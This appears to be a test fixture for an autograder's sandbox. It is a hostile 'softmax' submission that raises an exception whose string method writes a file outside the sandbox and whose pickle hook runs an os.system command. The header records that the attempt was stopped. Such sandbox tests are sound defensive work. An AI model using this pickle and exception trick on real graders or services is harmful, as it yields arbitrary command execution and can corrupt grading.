# title: an exception whose text, name and pickle are code
# source: otter-grader (results travel as a pickle)
# question: softmax
# stopped by: protocol
# %% softmax
class Evil(Exception):
    def __str__(self):
        open("@OUTSIDE@/str", "w").write("x")
        return "ok"

    __repr__ = __str__

    def __reduce__(self):
        return (__import__("os").system, ("touch @OUTSIDE@/reduce",))


def softmax(X):
    raise Evil
